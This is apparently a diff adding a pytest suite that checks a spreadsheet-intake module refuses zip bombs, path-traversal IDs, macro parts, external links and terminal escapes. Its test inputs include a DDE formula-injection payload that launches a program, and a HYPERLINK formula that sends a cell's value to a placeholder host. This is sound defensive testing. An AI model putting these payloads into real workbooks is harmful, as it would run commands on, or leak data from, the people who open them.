@@ -1,0 +1,240 @@
+"""A workbook that wants to do more than state numbers is refused, and nothing of it reaches another file."""
+
+import io
+import json
+import re
+import struct
+import subprocess
+import sys
+import zipfile
+
+import openpyxl
+import pytest
+from click.testing import CliRunner
+from workbook_maker import BAD, ROOT, Filled, Formula, cell_of, examined, repacked, told
+
+from pathway_models.cli.data_commands import check_command
+from pathway_models.cli.main import main
+from pathway_models.console.tables import fault_lines, width_of
+from pathway_models.core.errors import Fault, InputError
+from pathway_models.intake.examination import examine_workbook
+from pathway_models.intake.workbook import book as workbook_safety
+from pathway_models.intake.workbook.annotate import write_annotated
+from pathway_models.intake.workbook.book import safe_bytes
+
+HEAD = b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+SHEET = "xl/worksheets/sheet2.xml"
+
+
+def refusal(path):
+    with pytest.raises(InputError) as refused:
+        safe_bytes(path)
+    return refused.value.faults[0]
+
+
+def with_sheet(folder, rows):
+    """A workbook one sheet of which has these raw rows."""
+    part = HEAD + b"<sheetData>" + rows + b"</sheetData></worksheet>"
+    filled = Filled(parts=lambda parts: {**parts, SHEET: part})
+    return filled.write(folder / "park.xlsx")
+
+
+def test_200_mb_of_empty_rows_are_refused_without_being_read(tmp_path):
+    path = with_sheet(tmp_path, b'<row r="1" spans="1:9"/>' * (200 * 2**20 // 24))
+    assert path.stat().st_size < 2**20
+    fault = refusal(path)
+    assert fault.code == "unpacked_large"
+    assert "empty rows, or a zip bomb" in fault.remedy
+
+
+def test_a_size_that_lies_does_not_help_a_bomb(tmp_path):
+    """The directory says one byte; what counts is what comes out."""
+    content = with_sheet(tmp_path, b" " * (100 * 2**20)).read_bytes()
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        size = archive.getinfo(SHEET).file_size
+    (tmp_path / "liar.xlsx").write_bytes(content.replace(struct.pack("<I", size), struct.pack("<I", 1)))
+    assert refusal(tmp_path / "liar.xlsx").code in ("unpacked_large", "zip_damaged")
+
+
+def test_too_many_formatted_cells_are_refused(tmp_path, monkeypatch):
+    monkeypatch.setattr(workbook_safety, "MOST_CELLS", 5000)
+    assert refusal(with_sheet(tmp_path, b'<row r="1"><c r="A1" s="1"/></row>' * 5000)).code == "cells_many"
+
+
+def test_a_large_file_is_refused_by_its_size(tmp_path, monkeypatch):
+    monkeypatch.setattr(workbook_safety, "LARGEST_FILE", 2**10)
+    assert refusal(Filled().write(tmp_path / "park.xlsx")).code == "file_large"
+
+
+def test_a_file_that_is_not_there_is_said_to_be_missing(tmp_path):
+    assert refusal(tmp_path / "nowhere.xlsx").code == "no_file"
+    assert refusal(tmp_path).code == "no_file"
+
+
+@pytest.mark.parametrize(
+    "name", ["part_outside", "entity_expansion", "entity_of_a_file", "macro_part", "external_link"]
+)
+def test_nothing_of_a_refused_file_is_written_anywhere(tmp_path, name):
+    (tmp_path / "in").mkdir()
+    path = tmp_path / "in" / "park.xlsx"
+    path.write_bytes((BAD / f"{name}.xlsx").read_bytes())
+    out = str(tmp_path / "in" / "copy.xlsx")
+    answer = CliRunner().invoke(check_command, [str(path), "--annotate", out])
+    assert answer.exit_code == 1
+    assert [found.name for found in tmp_path.rglob("*")] == ["in", "park.xlsx"]
+
+
+@pytest.mark.parametrize(
+    "park_id", ["../outside", "..", "a/b", "a\\b", "/etc", "C:park", "nul", "A", "park id", "a" * 61, "a\n"]
+)
+def test_a_park_id_that_is_no_plain_folder_name_is_refused(tmp_path, park_id):
+    filled = Filled()
+    filled.park["park_id"] = park_id
+    found = told(examined(filled, tmp_path), "error")
+    assert found == [("园区!C5", "park_id")] or park_id == "a\n"
+
+
+@pytest.mark.parametrize("name", ["=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1", " =1"])
+def test_a_name_that_would_run_as_a_formula_is_refused(tmp_path, name):
+    filled = Filled()
+    filled.park["name_zh"] = name
+    assert [code for _, code in told(examined(filled, tmp_path), "error")] == ["formula_text"]
+
+
+def hostile():
+    """A readable workbook full of things that compute or reach outside."""
+    filled = Filled()
+    filled.put(2019, "bituminous", Formula('=HYPERLINK("http://x.invalid/?"&C13,"10500")', 10500))
+    filled.put(2019, "natural_gas", "=1+1")
+    filled.put(2019, "heat", "约五万")
+    filled.lines[2019]["so2"]["note"] = "@SUM(1+9)*cmd|' /C calc'!A0"
+
+    def touch(book):
+        sheet = book.get_worksheet_by_name("2020")
+        book.define_name("Evil", "=SUM('2020'!$C$1:$C$9)")
+        sheet.write_url("K1", "http://x.invalid/", string="x")
+        sheet.conditional_format("K2:K9", {"type": "formula", "criteria": "=C13>1", "format": book.add_format()})
+        sheet.data_validation("K3", {"validate": "custom", "value": '=INDIRECT("C13")>0'})
+        sheet.data_validation("K4", {"validate": "list", "source": ["A", "B"]})
+        sheet.print_area("A1:C9")
+        sheet.repeat_rows(0, 3)
+        book.set_custom_property("link", "=1+1")
+        sheet.autofilter("P1:Q9")
+        sheet.add_table("L1:M3", {"columns": [{"header": "a"}, {"header": "b", "formula": "=C13"}]})
+
+    filled.touch = touch
+    return filled
+
+
+def test_a_marked_copy_holds_no_formula_link_or_rule_of_the_input(tmp_path):
+    path = hostile().write(tmp_path / "park.xlsx")
+    examination = examine_workbook(path)
+    copy = write_annotated(path, examination.faults, tmp_path / "copy.xlsx")
+    with zipfile.ZipFile(copy) as archive:
+        parts = {name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist()}
+    text = "".join(parts.values())
+    assert not re.search(r"<f[ >]|<definedName |<hyperlink|conditionalFormatting|INDIRECT|<calculatedColumn", text)
+    assert not [name for name in parts if "externalLink" in name or "tables/" in name]
+    assert '"A,B"' in parts["xl/worksheets/sheet4.xml"].replace("&quot;", '"')
+    book = openpyxl.load_workbook(copy)
+    kept = book["2019"][cell_of("bituminous")]
+    assert (kept.data_type, kept.quotePrefix, kept.value[:10]) == ("s", True, "=HYPERLINK")
+    assert book["2019"][cell_of("natural_gas")].data_type == "s"
+
+
+def test_a_marked_copy_shows_each_fault_in_its_cell(tmp_path):
+    path = hostile().write(tmp_path / "park.xlsx")
+    copy = write_annotated(path, examine_workbook(path).faults, tmp_path / "copy.xlsx")
+    book = openpyxl.load_workbook(copy)
+    wrong, good = book["2019"][cell_of("heat")], book["2019"][cell_of("diesel_oil")]
+    assert wrong.fill.fgColor.rgb == "00FFC7CE"
+    assert wrong.comment.text.startswith("ERROR: expected a number; write plain digits")
+    assert good.comment is None
+    assert book["2019"][cell_of("bituminous")].fill.fgColor.rgb == "00FFEB9C"
+    listed = {row[1].value for row in book["check"].iter_rows(min_row=2)}
+    assert listed == {fault.place for fault in examine_workbook(path).faults}
+
+
+@pytest.mark.parametrize("name", ["nowhere", "x" * 300])
+def test_a_file_that_cannot_be_written_is_told_without_a_traceback(tmp_path, name):
+    """A link into a folder that is not there, and a name no disk takes, stand for a folder one may not write to."""
+    park = Filled().write(tmp_path / "park.xlsx")
+
+    def target(suffix):
+        path = tmp_path / f"{name}{suffix}"
+        if name == "nowhere":
+            path.symlink_to(tmp_path / "missing" / "file")
+        return path
+
+    copy = ["check", str(park), "--annotate", str(target(".xlsx"))]
+    for words in (copy, ["check", str(park), "--ledger", str(target(".csv"))], ["template", copy[-1]]):
+        done = CliRunner().invoke(main, words)
+        assert done.exit_code == 1, done.output
+        assert isinstance(done.exception, SystemExit)
+        assert "a file that can be written" in done.output
+
+
+def test_a_marked_copy_can_be_mended_checked_and_marked_again(tmp_path):
+    filled = Filled()
+    place = filled.put(2019, "heat", "约五万")
+    path = filled.write(tmp_path / "park.xlsx")
+    copy = write_annotated(path, examine_workbook(path).faults, tmp_path / "copy.xlsx")
+    assert (place, "number") in told(examine_workbook(copy), "error")
+    book = openpyxl.load_workbook(copy)
+    book["2019"][cell_of("heat")] = 52500
+    book.save(copy)
+    assert told(examine_workbook(copy), "error") == []
+    write_annotated(path, [], copy)
+
+
+def test_the_terminal_names_the_file_where_it_is_not_the_one_that_was_checked():
+    faults = [
+        Fault(file, "file", "", "a file to read", "check the name", code="no_file") for file in ("p.csv", "p.yml")
+    ]
+    own, other = list(fault_lines(faults, 80, table="p.csv"))[1:]
+    assert own.split()[:3] == ["error", "file", "expected"]
+    assert other.split()[:3] == ["error", "p.yml", "file"]
+
+
+def test_the_terminal_shows_no_control_sign_of_the_input():
+    fault = Fault("p.xlsx", "2019!C6", "\x1b[2J清屏", "a number", "type it", code="number")
+    lines = list(fault_lines([fault], 80))
+    assert "\x1b" not in "".join(lines)
+    assert all(width_of(line) <= 80 for line in lines)
+
+
+def test_reading_a_workbook_opens_no_network_and_starts_no_program(tmp_path):
+    """Audited in a fresh interpreter: the reading itself touches the workbook and the shipped data only."""
+    path = hostile().write(tmp_path / "park.xlsx")
+    code = """
+import json, sys
+from pathlib import Path
+from pathway_models.intake.examination import examine_workbook
+seen = []
+def hook(event, args):
+    if event.split(".")[0] in ("socket", "subprocess", "os") and event not in ("os.listdir", "os.scandir"):
+        seen.append(event)
+    if event == "open" and isinstance(args[1], str) and set(args[1]) & set("wax+"):
+        seen.append(f"open {args[0]}")
+sys.addaudithook(hook)
+examine_workbook(Path(sys.argv[1]))
+print(json.dumps(seen))
+"""
+    done = subprocess.run(
+        [sys.executable, "-B", "-c", code, str(path)], cwd=ROOT, capture_output=True, text=True, check=True
+    )
+    assert json.loads(done.stdout) == []
+
+
+def test_an_unpacked_archive_of_many_parts_is_refused(tmp_path):
+    path = Filled().write(tmp_path / "park.xlsx")
+    many = {f"docProps/{n}.bin": b"" for n in range(1001)}
+    path.write_bytes(repacked(path.read_bytes(), lambda parts: {**parts, **many}))
+    assert refusal(path).code == "zip_parts"
+
+
+def test_a_sheet_named_like_a_formula_never_begins_a_line_of_a_result(tmp_path):
+    filled = Filled(touch=lambda book: book.add_worksheet("=1+1").write_number("A1", 1))
+    park = examined(filled, tmp_path).park
+    assert any("=1+1" in note for note in park.notes)
+    assert not any(note.startswith(("=", "+", "-", "@")) for note in park.notes)
